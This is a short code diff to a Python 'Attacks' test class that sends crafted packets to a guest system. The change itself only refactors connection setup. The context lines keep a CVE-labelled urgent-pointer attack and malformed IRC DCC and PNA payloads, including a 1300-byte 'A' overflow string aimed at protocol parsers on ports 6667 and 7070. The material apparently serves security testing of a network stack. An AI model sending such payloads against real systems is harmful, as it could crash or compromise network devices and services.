@@ -105,8 +105,7 @@ class Attacks:
   def urgent_pointer(self):
     """CVE-2026-9539: urgent pointers past the data of an open connection."""
     connection = Connection(self.guest, ALLOWED, 7)
-    connection.send(SYN)
-    if connection.receive() is None:
+    if not connection.open():
       raise EOFError('no connection to attack')
     guest_port, _ = struct.unpack('>HH', connection.ports)
     while True:
@@ -136,8 +135,7 @@ class Attacks:
         (6667, b'PRIVMSG x :\1DCC CHAT chat 167772687 4000\1\r\n'), (6667, b'DCC SEND ' + b'A' * 1300 + b' 1 2 3\n'),
         (7070, b'\x50\x4e\x41\0' + b'\0' * 300))):
       connection = Connection(self.guest, ALLOWED, port)
-      connection.send(SYN)
-      if connection.receive() is None:
+      if not connection.open():
         raise EOFError(f'no connection to port {port}')
       connection.send(ACK)
       connection.send(ACK | PSH, text)
